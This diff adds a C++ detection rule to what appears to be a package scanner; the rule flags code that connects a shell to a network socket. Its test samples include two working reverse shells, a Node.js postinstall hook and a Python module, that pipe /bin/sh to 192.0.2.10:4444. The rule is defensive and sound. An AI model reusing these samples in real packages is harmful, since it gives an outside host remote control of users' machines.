@@ -1,0 +1,86 @@
+#include "rules/conditions.h"
+#include "rules/rule.h"
+
+namespace assay::rules {
+namespace {
+
+void check(const Facts& facts, Findings& findings) {
+  for (const Action& action : facts.actions) {
+    if (action.act != Act::redirect_stream || !is_shipped(action)) continue;
+    const Action* peer = action_beside(facts, action, [](const Action& other) {
+      return other.act == Act::connect && destination_of(other.target).host_is_constant &&
+             destination_of(other.target).kind != HostKind::local;
+    });
+    Severity severity = Severity::low;
+    if (runs_uncalled(action)) {
+      severity = Severity::critical;
+    } else if (peer != nullptr) {
+      severity = Severity::high;
+    }
+    const std::string to = peer != nullptr ? " to " + shown(peer->target) : "";
+    findings.add(severity, action.where, sentence("connects a socket to a shell" + to, action),
+                 action.steps);
+  }
+}
+
+}  // namespace
+
+extern constinit const Rule reverse_shell = {
+    .id = "reverse-shell",
+    .title = "The package hands a shell to another machine",
+    .why = "A socket whose other end types into a shell is remote control of the machine.",
+    .harmless_when =
+        "Remote administration and exploitation tools do this on request, to a host "
+        "that the user names.",
+    .severity = Severity::critical,
+    .check = check,
+};
+
+#ifdef RULE_SAMPLES
+constexpr Sample samples[] = {
+    {.name = "an install hook connects a shell to a socket",
+     .expect = "index.js:6",
+     .bundle = R"(==> package.json
+{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+==> index.js
+const net = require("net");
+const {spawn} = require("child_process");
+const shell = spawn("/bin/sh", []);
+const client = new net.Socket();
+client.connect(4444, "192.0.2.10", () => {
+  client.pipe(shell.stdin);
+  shell.stdout.pipe(client);
+});
+)"},
+    {.name = "a module does so with dup2",
+     .expect = "sample/__init__.py:6",
+     .bundle = R"(==> PKG-INFO
+Metadata-Version: 2.1
+Name: sample
+Version: 1.0.0
+==> setup.py
+from setuptools import setup
+setup(name="sample", version="1.0.0", packages=["sample"])
+==> sample/__init__.py
+import os
+import socket
+import subprocess
+peer = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+peer.connect(("192.0.2.10", 4444))
+os.dup2(peer.fileno(), 0)
+os.dup2(peer.fileno(), 1)
+subprocess.call(["/bin/sh", "-i"])
+)"},
+    {.name = "a client reads and writes its own socket",
+     .expect = silent,
+     .bundle = R"(==> package.json
+{"name": "sample", "version": "1.0.0", "main": "index.js"}
+==> index.js
+const net = require("net");
+exports.open = (host, port) => net.connect(port, host, function () { this.pipe(process.stdout); });
+)"},
+};
+extern const std::span<const Sample> reverse_shell_samples = samples;
+#endif
+
+}  // namespace assay::rules
